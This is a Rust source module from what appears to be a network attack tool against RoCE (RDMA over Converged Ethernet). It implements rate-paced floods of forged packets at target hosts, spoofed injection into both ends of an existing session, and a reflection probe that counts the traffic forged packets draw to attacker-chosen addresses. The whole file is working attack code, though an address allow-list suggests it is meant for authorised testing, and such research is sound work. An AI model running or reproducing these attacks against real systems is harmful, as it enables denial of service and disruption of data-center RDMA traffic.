//! The attacks. Each runs until it has sent what it should or is told to stop.

use std::{
    collections::BTreeMap,
    io,
    net::{IpAddr, Ipv4Addr, UdpSocket},
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, Instant},
};

use roce_bth::Opcode;
use socket2::SockRef;

use crate::{
    aim::Aim,
    forge::{Forger, Kind, message_of, roce},
    origin::Origin,
};

/// Counts of packets sent.
#[derive(Clone, Copy, PartialEq, Eq, Default, Debug)]
pub struct Sent {
    /// Packets.
    pub packets: u64,
    /// Their UDP payloads.
    pub bytes: u64,
}

impl std::ops::AddAssign for Sent {
    fn add_assign(&mut self, other: Self) {
        self.packets += other.packets;
        self.bytes += other.bytes;
    }
}

/// Tells an attack to stop, and how far it is.
#[derive(Clone, Default, Debug)]
pub struct Control {
    stop: Arc<AtomicBool>,
    packets: Arc<AtomicU64>,
}

impl Control {
    /// A control that `stop` belongs to.
    pub fn of(stop: Arc<AtomicBool>) -> Self {
        Self {
            stop,
            packets: Arc::default(),
        }
    }

    /// Ends the attack soon.
    pub fn stop(&self) {
        self.stop.store(true, Ordering::Relaxed);
    }

    /// Whether it shall end.
    pub fn stopped(&self) -> bool {
        self.stop.load(Ordering::Relaxed)
    }

    /// Packets sent so far.
    pub fn packets(&self) -> u64 {
        self.packets.load(Ordering::Relaxed)
    }
}

/// An attack on a thread of its own.
#[derive(Debug)]
pub struct Background {
    control: Control,
    thread: Option<JoinHandle<io::Result<Sent>>>,
}

impl Background {
    /// Starts one.
    pub fn start(attack: impl FnOnce(&Control) -> io::Result<Sent> + Send + 'static) -> Self {
        let control = Control::default();
        let of_thread = control.clone();
        Self {
            control,
            thread: Some(thread::spawn(move || attack(&of_thread))),
        }
    }

    /// Packets sent so far.
    pub fn packets(&self) -> u64 {
        self.control.packets()
    }

    /// Stops it.
    ///
    /// # Errors
    /// The attack's.
    pub fn stop(mut self) -> io::Result<Sent> {
        self.control.stop();
        let thread = self.thread.take().ok_or_else(|| io::Error::other("stopped before"))?;
        thread.join().map_err(|_| io::Error::other("the attack panicked"))?
    }
}

impl Drop for Background {
    fn drop(&mut self) {
        self.control.stop();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

/// Keeps a rate. What a busy host delays for long is not made up for.
struct Pace {
    next: Instant,
    step: Duration,
}

impl Pace {
    /// `rate`: per second; 0 is as fast as possible.
    fn new(rate: f64) -> Self {
        let step = if rate > 0.0 {
            Duration::from_secs_f64(1.0 / rate)
        } else {
            Duration::ZERO
        };
        Self {
            next: Instant::now(),
            step,
        }
    }

    fn wait(&mut self) {
        const DEBT: Duration = Duration::from_millis(100);
        let now = Instant::now();
        if self.next > now {
            thread::sleep(self.next - now);
        } else if now - self.next > DEBT {
            self.next = now - DEBT;
        }
        self.next += self.step;
    }
}

fn send(origin: &Origin, to: IpAddr, forger: &mut Forger, kind: Kind, control: &Control) -> io::Result<Sent> {
    let forged = forger.packet(kind, &origin.flow(to)?);
    match origin.send(to, forged.identification, &forged.bytes) {
        Ok(()) => {
            control.packets.fetch_add(1, Ordering::Relaxed);
            Ok(Sent {
                packets: 1,
                bytes: forged.bytes.len() as u64,
            })
        }
        // The stack is full at the moment.
        Err(e) if e.raw_os_error() == Some(libc::ENOBUFS) || e.kind() == io::ErrorKind::WouldBlock => {
            Ok(Sent::default())
        }
        Err(e) => Err(e),
    }
}

/// Packets of these kinds in turns, from each sender in turn to each target, `rate` a second to each target, `count` in
/// all (`None`: until stopped).
///
/// # Errors
/// When an address is not allowed, or sending fails.
pub fn flood(
    targets: &[IpAddr],
    origins: &[Origin],
    kinds: &[Kind],
    forger: &mut Forger,
    rate: f64,
    count: Option<u64>,
    control: &Control,
) -> io::Result<Sent> {
    let mut pace = Pace::new(rate);
    let mut sent = Sent::default();
    let mut turn = 0;
    if kinds.is_empty() || origins.is_empty() {
        return Err(io::Error::new(io::ErrorKind::InvalidInput, "nothing to send"));
    }
    while !control.stopped() && count.is_none_or(|c| (turn as u64) < c) {
        pace.wait();
        // With numbers of kinds and senders that have a common factor, each sender would send the same kinds for ever.
        let kind = kinds[(turn + turn / origins.len()) % kinds.len()];
        for to in targets {
            sent += send(&origins[turn % origins.len()], *to, forger, kind, control)?;
        }
        turn += 1;
    }
    Ok(sent)
}

/// Both ends of a session get packets from the other's address, `rate` a second each: from another socket there.
///
/// # Errors
/// When the addresses are not ours or not allowed, or sending fails.
pub fn between(
    ends: [Origin; 2],
    kinds: &[Kind],
    forger: &mut Forger,
    rate: f64,
    control: &Control,
) -> io::Result<Sent> {
    let mut pace = Pace::new(rate);
    let mut sent = Sent::default();
    let mut turn = 0;
    while !control.stopped() {
        pace.wait();
        let kind = kinds[turn % kinds.len()];
        turn += 1;
        for (origin, to) in [(&ends[0], &ends[1]), (&ends[1], &ends[0])] {
            sent += send(origin, to.ip(), forger, kind, control)?;
        }
    }
    Ok(sent)
}

/// Packets that reached an address of the attacker's choice because of one packet.
#[derive(Clone, PartialEq, Eq, Default, Debug)]
pub struct Reflection {
    /// Bytes of the forged packet.
    pub sent: u64,
    /// Packets that came.
    pub packets: u64,
    /// Their bytes.
    pub bytes: u64,
    /// How many of which message.
    pub messages: BTreeMap<&'static str, u64>,
}

/// Receives what is sent to RoCE's port of an address.
#[derive(Debug)]
pub struct Victim {
    socket: UdpSocket,
    seen: Reflection,
}

impl Victim {
    /// A socket there.
    ///
    /// # Errors
    /// When the address is not allowed, or its port is in use.
    pub fn at(aim: Aim, addr: IpAddr) -> io::Result<Self> {
        aim.check(addr)?;
        let socket = UdpSocket::bind(roce(addr))?;
        socket.set_nonblocking(true)?;
        // What the system grants: nothing shall be lost.
        let _ = SockRef::from(&socket).set_recv_buffer_size(8 << 20);
        Ok(Self {
            socket,
            seen: Reflection::default(),
        })
    }

    /// Takes what has come.
    ///
    /// # Errors
    /// When receiving fails.
    pub fn look(&mut self) -> io::Result<&Reflection> {
        let mut buffer = [0; 2048];
        loop {
            match self.socket.recv_from(&mut buffer) {
                Ok((len, _)) => {
                    self.seen.packets += 1;
                    self.seen.bytes += len as u64;
                    let name = message_of(&buffer[..len]).map_or("other", |m| m.attribute().name());
                    *self.seen.messages.entry(name).or_default() += 1;
                }
                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return Ok(&self.seen),
                Err(e) => return Err(e),
            }
        }
    }
}

/// Findings of [`reflect`], for each kind of packet.
pub type Reflections = Vec<(String, Reflection)>;

/// Sends one packet of each kind and of each transport opcode, each from an address of its own (in a row from `first`, whose
/// ports 4791 must be free), and counts what comes back to these within `wait`.
///
/// # Errors
/// When addresses are not ours or not allowed, or the system refuses.
pub fn reflect(
    aim: Aim,
    to: IpAddr,
    first: Ipv4Addr,
    forger: &mut Forger,
    wait: Duration,
    control: &Control,
) -> io::Result<Reflections> {
    let mut victims = Vec::new();
    let mut next = first.to_bits();
    let mut one =
        |name: String, forge: &mut dyn FnMut(&Origin) -> io::Result<crate::forge::Forged>| -> io::Result<()> {
            let addr = Ipv4Addr::from_bits(next).into();
            next = next.wrapping_add(1);
            let mut victim = Victim::at(aim, addr)?;
            let origin = Origin::bind(aim, addr)?;
            let forged = forge(&origin)?;
            origin.send(to, forged.identification, &forged.bytes)?;
            control.packets.fetch_add(1, Ordering::Relaxed);
            victim.seen.sent = forged.bytes.len() as u64;
            victims.push((name, victim));
            Ok(())
        };
    for kind in Kind::ALL {
        one(format!("{kind:?}"), &mut |origin| {
            Ok(forger.packet(kind, &origin.flow(to)?))
        })?;
    }
    for opcode in Opcode::ALL {
        one(opcode.info().name.to_owned(), &mut |origin| {
            Ok(forger.transport(*opcode, &origin.flow(to)?))
        })?;
    }
    let until = Instant::now() + wait;
    while !control.stopped() && Instant::now() < until {
        for (_, victim) in &mut victims {
            victim.look()?;
        }
        thread::sleep(Duration::from_millis(5));
    }
    let look = |(name, mut victim): (String, Victim)| Ok((name, victim.look()?.clone()));
    victims.into_iter().map(look).collect()
}
